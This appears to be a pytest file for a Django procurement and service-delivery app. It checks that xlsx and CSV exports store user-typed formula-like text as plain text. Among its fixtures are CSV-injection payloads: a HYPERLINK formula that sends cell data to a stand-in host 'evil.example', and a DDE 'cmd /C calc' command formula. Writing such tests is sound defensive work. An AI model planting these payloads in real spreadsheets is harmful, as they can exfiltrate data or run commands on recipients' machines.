"""Formula injection (issue 12, finding 4): text users type comes back out of every xlsx and CSV export as text.

Every page and admin action that writes a spreadsheet is exported with formula-like text in each field a user
types (OWASP's CSV-injection triggers: "=", "+", "-", "@"); an xlsx cell must be a string cell
(`data_type == "s"`, never a formula "f") and a CSV cell must start with an apostrophe."""

import csv
import io

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from openpyxl import load_workbook

from catalog.services import COLUMNS, edition_import
from delivery.models import PlanItem, ServiceReport
from directory.models import Role
from procurement.models import QualificationApplication
from procurement.services.agencies import roster_snapshot_xlsx
from tests.delivery.reports.builders import END, START, approved_plan, make_report
from tests.procurement.factories import (
    CertificateFactory,
    PackageFactory,
    QualificationFactory,
    RoundFactory,
    StaffFactory,
    qualified_agency,
)

HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"点击查看")'
SUM = "=1+2"
PLUS = "+86-1234"
MINUS = "-2+3"
AT = "@SUM(A1:A3)"
CMD = "=cmd|' /C calc'!A0"


@pytest.fixture(autouse=True)
def _private_media(settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path / "private_media"
    settings.PRIVATE_MEDIA_ROOT = settings.MEDIA_ROOT


def xlsx_cells(content: bytes) -> dict[str, list]:
    """Every non-empty cell of every sheet, by its text."""
    book = load_workbook(io.BytesIO(content))
    cells: dict[str, list] = {}
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if cell.value is not None:
                    cells.setdefault(str(cell.value), []).append(cell)
    return cells


def assert_xlsx_text(content: bytes, *typed: str) -> None:
    cells = xlsx_cells(content)
    assert not [c for found in cells.values() for c in found if c.data_type == "f"], "a formula cell was written"
    for text in typed:
        found = cells.get(text, []) + cells.get("'" + text, [])
        assert found, f"{text!r} is missing from the export"
        assert all(c.data_type == "s" for c in found), f"{text!r} was not written as text"


def assert_csv_text(content: bytes, *typed: str) -> None:
    cells = [cell for row in csv.reader(io.StringIO(content.decode("utf-8-sig"))) for cell in row]
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")], "a cell starts like a formula"
    for text in typed:
        assert "'" + text in cells, f"{text!r} is missing from the CSV or not neutralised"


# --- roster (agency staff) -----------------------------------------------------------------------------------


@pytest.fixture
def agency(world):
    return qualified_agency(organisation=world.agency)


@pytest.fixture
def formula_staff(agency):
    staff = StaffFactory(agency=agency, name=SUM)
    CertificateFactory(staff=staff, number=AT)
    StaffFactory(agency=agency, name=HYPERLINK)
    return staff


@pytest.mark.django_db
@pytest.mark.parametrize("role", [Role.AGENCY_MANAGER, Role.BUREAU_ADMIN])
def test_roster_xlsx_export_writes_staff_names_as_text(client, personas, agency, formula_staff, role):
    client.force_login(personas[role])
    response = client.get(reverse("procurement:staff-export", args=[agency.pk]))
    assert response.status_code == 200
    assert_xlsx_text(response.content, SUM, HYPERLINK, AT)


@pytest.mark.django_db
def test_roster_csv_export_neutralises_staff_names(client, manager, agency, formula_staff):
    client.force_login(manager)
    response = client.get(reverse("procurement:staff-export", args=[agency.pk]), {"format": "csv"})
    assert response.status_code == 200
    assert_csv_text(response.content, SUM, HYPERLINK, AT)


@pytest.mark.django_db
@pytest.mark.parametrize("role", [Role.AGENCY_MANAGER, Role.BUREAU_ADMIN])
def test_qualification_roster_snapshot_writes_staff_names_as_text(client, personas, agency, formula_staff, role):
    application = QualificationFactory(
        agency=agency,
        status=QualificationApplication.Status.SUBMITTED,
        submitted_by=personas[Role.AGENCY_MANAGER],
        decided_at=None,
        reason="",
        valid_from=None,
        valid_until=None,
        roster_file=SimpleUploadedFile("roster.xlsx", roster_snapshot_xlsx(agency=agency)),
    )
    client.force_login(personas[role])
    response = client.get(reverse("procurement:qualification-file", args=[application.pk, "roster_file"]))
    assert response.status_code == 200
    assert_xlsx_text(b"".join(response.streaming_content), SUM, HYPERLINK, AT)


# --- monthly reports and the service plan ----------------------------------------------------------------------


@pytest.fixture
def package(world, agency, edition_2018):
    return PackageFactory(
        town=world.town_a1, agency=agency, round=RoundFactory(), starts_on=START, ends_on=END, title=MINUS + "项目包"
    )


@pytest.fixture
def plan_items(package, world):
    items = approved_plan(package, world)
    items["filed_pending"].filed_name = PLUS + "菜园"
    items["filed_pending"].note = CMD
    items["filed_pending"].save()
    PlanItem.objects.filter(pk=items["station"].pk).update(note=HYPERLINK)
    return items


@pytest.mark.django_db
@pytest.mark.parametrize("role", [Role.AGENCY_MANAGER, Role.TOWN_OFFICER, Role.BUREAU_ADMIN])
def test_report_xlsx_export_writes_summary_reason_and_narrative_as_text(client, personas, package, plan_items, role):
    worker = personas[Role.AGENCY_WORKER]
    make_report(
        package,
        2025,
        1,
        worker,
        status=ServiceReport.Status.RETURNED,
        summary=HYPERLINK,
        returned_reason=AT,
        values={plan_items["station"]: {"sessions": 2, "narrative": SUM}},
    )
    client.force_login(personas[role])
    response = client.get(reverse("delivery:report-export", args=[package.pk]))
    assert response.status_code == 200
    assert_xlsx_text(response.content, HYPERLINK, AT, SUM)


@pytest.mark.django_db
@pytest.mark.parametrize("role", [Role.AGENCY_MANAGER, Role.TOWN_OFFICER, Role.BUREAU_ADMIN])
def test_plan_xlsx_export_writes_item_notes_and_filed_names_as_text(client, personas, package, plan_items, role):
    client.force_login(personas[role])
    response = client.get(reverse("delivery:plan-export", args=[package.pk]))
    assert response.status_code == 200
    assert_xlsx_text(response.content, HYPERLINK, CMD, PLUS + "菜园", MINUS + "项目包")


# --- catalogue (admin actions) ---------------------------------------------------------------------------------


@pytest.fixture
def formula_edition(bureau):
    row = ["JC", "basic", SUM, "Basic", "JC-01", HYPERLINK, AT, CMD, "community", "session", "24", PLUS, MINUS]
    return edition_import(actor=bureau, code="formula", name_zh="目录", name_en="Cat", year=2026, rows=[COLUMNS, row])


@pytest.mark.django_db
def test_catalogue_xlsx_export_writes_catalogue_text_as_text(client, bureau, formula_edition):
    client.force_login(bureau)
    response = client.post(
        "/admin/catalog/catalogueedition/", {"action": "export_xlsx", "_selected_action": [formula_edition.pk]}
    )
    assert response.status_code == 200
    assert_xlsx_text(response.content, SUM, HYPERLINK, AT, CMD, PLUS, MINUS)


@pytest.mark.django_db
def test_catalogue_csv_export_neutralises_catalogue_text(client, bureau, formula_edition):
    client.force_login(bureau)
    response = client.post(
        "/admin/catalog/catalogueedition/", {"action": "export_csv", "_selected_action": [formula_edition.pk]}
    )
    assert response.status_code == 200
    assert_csv_text(response.content, SUM, HYPERLINK, AT, CMD, PLUS, MINUS)
